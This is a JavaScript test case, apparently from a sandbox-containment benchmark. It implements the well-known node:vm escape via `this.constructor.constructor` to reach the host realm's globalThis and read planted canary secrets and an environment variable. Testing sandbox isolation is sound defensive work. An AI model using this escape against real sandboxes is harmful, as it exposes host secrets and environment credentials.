/*---
id: proto-this-constructor
title: this.constructor.constructor — the classic node:vm escape
category: prototype
goal: Climb from the script's `this` through Object to the Function constructor of the realm that created the global's backing object, and leak the global and env canaries of that realm.
technique: `this.constructor.constructor('return globalThis')()`: in a node:vm context the global's properties fall through to the sandbox object created outside, so `constructor` is the outer Object and its constructor the outer Function.
references: https://nodejs.org/api/vm.html#vm-executing-javascript, CVE-2023-30547, CVE-2023-37466
expect: * = escaped; *+isolated-vm = contained; *+quickjs = contained
expect-hardened: * = contained; host = escaped; host+vm = escaped
---*/
let leaked;
try {
  const OuterFunction = this.constructor.constructor;
  const g = OuterFunction('return globalThis')();
  leaked = {
    foreignRealm: OuterFunction !== Function, // true only where `this` leads out of the guest's realm
    hostSecret: g.__hostSecret,
    env: g.process ? g.process.env.WORKBENCH_CANARY : undefined,
  };
} catch (e) {
  leaked = { error: String(e) };
}
console.log('this.constructor.constructor reached:', JSON.stringify(leaked));
leaked;
